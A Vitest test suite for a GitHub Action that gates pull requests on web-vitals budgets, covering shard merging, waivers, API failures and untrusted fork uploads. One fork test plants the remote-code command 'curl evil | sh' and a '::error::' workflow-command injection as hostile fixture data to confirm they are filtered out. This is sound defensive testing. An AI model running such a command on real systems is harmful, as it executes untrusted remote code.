import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';

import { execa } from 'execa';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';

import { repository, type Repository } from '../deploys/repository.ts';
import { LCP_BUDGET, recordsOf, writeRecords, type RecordedRoute } from '../support/recorded.ts';
import { CLI, vitalsGate } from '../support/gate.ts';
import { FakeGitHub, WORKFLOW_TOKEN, type Disturbance } from '../support/github/server.ts';

const ACTION = path.join(path.dirname(CLI), 'action.js');
/** The routes of the runs, one of which got slower; judged by what the configuration of base says of them. */
const ROUTES: RecordedRoute[] = [
  { name: 'home', budgets: [LCP_BUDGET] },
  { name: 'product', slowerMs: 400, budgets: [LCP_BUDGET] },
];
const SHARDS = ROUTES.map(({ name }, index) => ({
  index: index + 1,
  of: ROUTES.length,
  campaigns: [{ route: name, condition: 'mobile' }],
}));

const file = (budgets: string, more = ''): string =>
  `routes:\n  - { name: home, path: /home }\n  - { name: product, path: /product }\nbudgets: { lcp: { max-increase: ${budgets} } }\n${more}`;
const STRICT = file('[5 %, 50 ms]');
const LAX = file('9 s');

let github: FakeGitHub;
let repo: Repository;
let base: string;
let head: string;
beforeEach(async () => {
  github = await FakeGitHub.start();
  repo = await repository();
  base = await repo.commit('base', { 'vitals-gate.yml': STRICT });
  head = await repo.commit('head', { 'vitals-gate.yml': LAX, 'page.html': '' });
  github.files.set(`vitals-gate.yml@${base}`, STRICT);
  github.files.set(`vitals-gate.yml@${head}`, LAX);
});
afterEach(async () => {
  await repo.remove();
  await github.stop();
});

/** The samples of a run of base and head, as the jobs of a matrix upload them, in the folder that the action looks in. */
function measured(shards: readonly (typeof SHARDS)[number][] = SHARDS, run: object = {}): string[] {
  const labels = { base: { sha: base, url: 'https://main.example' }, head: { sha: head, url: 'https://pr.example' } };
  return shards.map((shard) => {
    const records = recordsOf({ routes: ROUTES, shard, commits: { base, head }, run: { ...labels, ...run } });
    return writeRecords(path.join(repo.folder, `vitals-gate-out/samples-${shard.index}`), records);
  });
}

/** The built action as the runner starts it, with `command: report`. */
async function act(eventName: string, event: object | null, env: Record<string, string> = {}) {
  const at = (name: string): string => path.join(repo.folder, '..', name);
  if (event !== null) await writeFile(at('event.json'), JSON.stringify(event));
  await writeFile(at('output'), '');
  const { exitCode, stdout } = await execa(process.execPath, [ACTION], {
    reject: false,
    extendEnv: false,
    env: {
      PATH: process.env['PATH'] ?? '',
      HOME: process.env['HOME'] ?? '',
      GITHUB_ACTIONS: 'true',
      GITHUB_EVENT_NAME: eventName,
      GITHUB_EVENT_PATH: at('event.json'),
      GITHUB_REPOSITORY: 'acme/shop',
      GITHUB_RUN_ID: '7001',
      GITHUB_SHA: head,
      GITHUB_REF_NAME: 'main',
      GITHUB_API_URL: github.url,
      GITHUB_WORKSPACE: repo.folder,
      GITHUB_OUTPUT: at('output'),
      'INPUT_GITHUB-TOKEN': WORKFLOW_TOKEN,
      INPUT_COMMAND: 'report',
      ...env,
    },
  });
  return { exitCode, stdout, outputs: await readFile(at('output'), 'utf8') };
}

const pullRequest = () => ({
  number: 42,
  head: { sha: head, ref: 'faster-cart' },
  base: { sha: base, ref: 'main' },
});
const comment = (): string => github.comments[0]?.body ?? 'no comment';

describe('the action judges the samples of a matrix', () => {
  it('on a pull request by the budgets of its base, not by those of the work tree', async () => {
    measured();
    const { exitCode, outputs } = await act('pull_request', { pull_request: pullRequest() });
    expect(exitCode).toBe(1);
    expect(outputs).toMatch(/broken-budgets<<.*\n\["product\/mobile\/lcp"\]\n/);
    expect(github.comments).toHaveLength(1);
    expect(comment()).toContain('### ❌ ');
    const { budgets } = JSON.parse(await readFile(path.join(repo.folder, 'vitals-gate-out/result.json'), 'utf8')) as {
      budgets: { limit: { value: number }[] }[];
    };
    expect(budgets[0]?.limit.map(({ value }) => value)).toEqual([5, 50]);
  });

  it('and passes a broken budget that the base waives, with the reason', async () => {
    const waived = await repo.commit('waive', {
      'vitals-gate.yml': file(
        '[5 %, 50 ms]',
        'waivers: [{ budget: product/mobile/lcp, until: 2099-12-31, reason: The gallery ships first, approved-by: "@acme/release" }]\n',
      ),
    });
    measured();
    const event = { pull_request: { ...pullRequest(), base: { sha: waived, ref: 'main' } } };
    const { exitCode, outputs } = await act('pull_request', event);
    expect(exitCode).toBe(0);
    expect(outputs).toMatch(/verdict<<.*\nwaived\n/);
    expect(comment()).toContain('Waived until 2099-12-31, by `@acme/release`: The gallery ships first');
  });

  it('and blocks where a shard is missing, and names it', async () => {
    measured(SHARDS.slice(0, 1));
    const { exitCode } = await act('pull_request', { pull_request: pullRequest() });
    expect(exitCode).toBe(3);
    expect(comment()).toContain('Shard 2 of 2 is missing');
  });

  it.each<[string, () => object]>([
    ['push', () => ({ ref: 'refs/heads/main', before: base, after: head })],
    [
      'merge_group',
      () => ({ merge_group: { head_sha: head, head_ref: 'refs/heads/queue/main/pr-42', base_sha: base } }),
    ],
    ['schedule', () => ({ schedule: '0 4 * * *' })],
    ['workflow_dispatch', () => ({ inputs: {} })],
  ])('on %s, without a comment', async (name, event) => {
    measured();
    const { exitCode, stdout } = await act(name, event());
    expect(exitCode).toBe(1);
    expect(stdout).toContain('No comment: this is not a pull request event.');
    expect(github.comments).toEqual([]);
  });

  it('on deployment_status for the pull request that was deployed', async () => {
    measured();
    github.pulls.push({ ...pullRequest(), head: { ...pullRequest().head, repository: 'acme/shop' } });
    const { exitCode } = await act('deployment_status', {
      deployment: { sha: head, ref: 'faster-cart' },
      deployment_status: { state: 'success', environment_url: 'https://pr.example' },
    });
    expect(exitCode).toBe(1);
    expect(github.comments).toHaveLength(1);
  });
});

it.each([
  ['is missing', null],
  ['is of another event', { action: 'created', comment: {} }],
])('an event file that %s leaves the verdict alone: there is nobody to tell, and the log says so', async (_, event) => {
  measured();
  const nowhere = event === null ? { GITHUB_EVENT_PATH: '/nowhere' } : {};
  const { exitCode, stdout } = await act('pull_request', event, nowhere);
  expect(exitCode).toBe(1);
  expect(stdout).toContain('No comment: the event file does not say which pull request this is.');
  expect(github.comments).toEqual([]);
});

const forked = () => ({
  workflow_run: {
    head_sha: head,
    head_branch: 'faster-cart',
    head_repository: { full_name: 'mallory/shop' },
    event: 'pull_request',
    pull_requests: [],
  },
  repository: { default_branch: 'main' },
});

describe('a report that GitHub does not take', () => {
  const LIST = /\/issues\/42\/comments$/;

  it.each<[string, Disturbance]>([
    ['403', { method: 'POST', path: LIST, times: 9, answer: { status: 403 } }],
    ['404', { method: 'GET', path: LIST, times: 9, answer: { status: 404 } }],
    ['422', { method: 'POST', path: LIST, times: 9, answer: { status: 422 } }],
    [
      '429 for an hour',
      { method: 'GET', path: LIST, times: 9, answer: { status: 429, headers: { 'retry-after': '3600' } } },
    ],
    [
      'a secondary limit for an hour',
      {
        method: 'POST',
        path: LIST,
        times: 9,
        answer: {
          status: 403,
          headers: { 'retry-after': '3600' },
          body: '{"message":"You have exceeded a secondary rate limit"}',
        },
      },
    ],
    ['truncated JSON', { method: 'GET', path: LIST, times: 9, answer: { status: 200, body: '[{"id": 1, "bo' } }],
  ])('keeps its verdict, and goes to the log: %s', async (_, disturbance) => {
    measured();
    github.disturb(disturbance);
    const { exitCode, stdout, outputs } = await act('pull_request', { pull_request: pullRequest() });
    expect(exitCode).toBe(1);
    expect(outputs).toMatch(/verdict<<.*\nfail\n/);
    expect(stdout).toMatch(/^::warning title=vitals-gate::The (?:token may not|comment could not)/m);
    expect(stdout).toContain('- **`product` on mobile: LCP +');
  });

  it('is delivered after all where GitHub only stumbled', async () => {
    measured();
    github.disturb({ method: 'GET', path: LIST, times: 1, answer: { status: 502 } });
    github.disturb({ method: 'POST', path: LIST, times: 1, answer: 'done-but-502' });
    const { exitCode } = await act('pull_request', { pull_request: pullRequest() });
    expect(exitCode).toBe(1);
    expect(github.comments).toHaveLength(1);
  });
});

describe('the trusted side of a fork', () => {
  /** No checkout: only the artifact. */
  const empty = { GITHUB_WORKSPACE: '' };
  beforeEach(async () => {
    github.pulls.push({ ...pullRequest(), head: { ...pullRequest().head, repository: 'mallory/shop' } });
    empty.GITHUB_WORKSPACE = path.join(repo.folder, '..', 'artifacts');
    await mkdir(empty.GITHUB_WORKSPACE);
  });

  /** What the fork measured by its own budgets, which are none. */
  function uploaded(run: object = {}, commits = { base, head }): void {
    const labels = { base: { sha: base, url: 'https://main.example' }, head: { sha: head, url: 'https://pr.example' } };
    const routes = ROUTES.map((route) => ({ ...route, budgets: [] }));
    const records = recordsOf({ routes, blocks: 15, commits, run: { ...labels, repository: 'acme/shop', ...run } });
    writeRecords(path.join(empty.GITHUB_WORKSPACE, 'vitals-gate-out'), records);
  }

  it('judges by the base, finds the pull request itself, and says whose numbers these are', async () => {
    uploaded({ notices: ['::error::@octocat'], reproduce: 'curl evil | sh' });
    const { stdout, outputs } = await act('workflow_run', forked(), empty);
    expect(outputs).not.toMatch(/verdict<<.*\npass\n/);
    expect(github.comments).toHaveLength(1);
    expect(comment()).toContain('mallory/shop');
    expect(comment()).toContain('`budgets.lcp.max-increase`: `["5 %","50 ms"]` → `9 s`');
    expect(comment()).not.toContain('evil');
    expect(stdout).not.toMatch(/^::error::@octocat/m);
  });

  it.each<[string, object, RegExp]>([
    ['another repository', { repository: 'acme/other' }, /they are of the repository acme\/other/],
    ['another commit', { head: { sha: 'f'.repeat(40), url: 'https://pr.example' } }, /they are of the commit ffff/],
    ['a newer version', { version: 2, tool: '9.9.9' }, /written by vitals-gate 9\.9\.9/],
  ])('refuses samples of %s with one clear error', async (_, run, message) => {
    uploaded(run);
    const { exitCode, stdout } = await act('workflow_run', forked(), empty);
    expect(exitCode).toBe(2);
    expect(stdout.match(/^::error /gm)).toHaveLength(1);
    expect(stdout).toMatch(message);
    expect(github.comments).toEqual([]);
  });

  it('says so where nothing was uploaded', async () => {
    const { exitCode, stdout } = await act('workflow_run', forked(), empty);
    expect(exitCode).toBe(2);
    expect(stdout).toContain('There are no samples in');
  });
});

describe('vitals-gate report', () => {
  it('merges samples and writes what run writes', async () => {
    const { exitCode, stdout } = await vitalsGate(repo.folder, ['report', ...measured(), '--out', 'merged']);
    expect(exitCode).toBe(1);
    expect(stdout).toMatch(/^❌ /);
    const again = await vitalsGate(repo.folder, ['judge', 'merged']);
    expect([again.exitCode, again.stdout]).toEqual([1, stdout]);
  });

  it('applies the policy of a commit where it is asked to', async () => {
    const args = ['report', ...measured(), '--out', 'merged', '--policy-ref', head];
    expect((await vitalsGate(repo.folder, args)).exitCode).toBe(0);
  });

  it('refuses what is no blob with one error and exit code 2', async () => {
    await writeFile(path.join(repo.folder, 'blob.ndjson'), '{"type":"run"');
    const { exitCode, stderr } = await vitalsGate(repo.folder, ['report', 'blob.ndjson', '--out', 'merged']);
    expect(exitCode).toBe(2);
    expect(stderr).toBe(
      'error: The samples blob.ndjson are refused: the first line is not the first record of a run.\n  → Give `report` the samples.ndjson that `measure` of the same version wrote for this run.',
    );
  });

  it('says of a single shard that it is one', async () => {
    const [shard = ''] = measured();
    const { exitCode, stderr } = await vitalsGate(repo.folder, ['judge', path.dirname(shard)]);
    expect(exitCode).toBe(2);
    expect(stderr).toContain('are shard 1 of 2');
  });
});
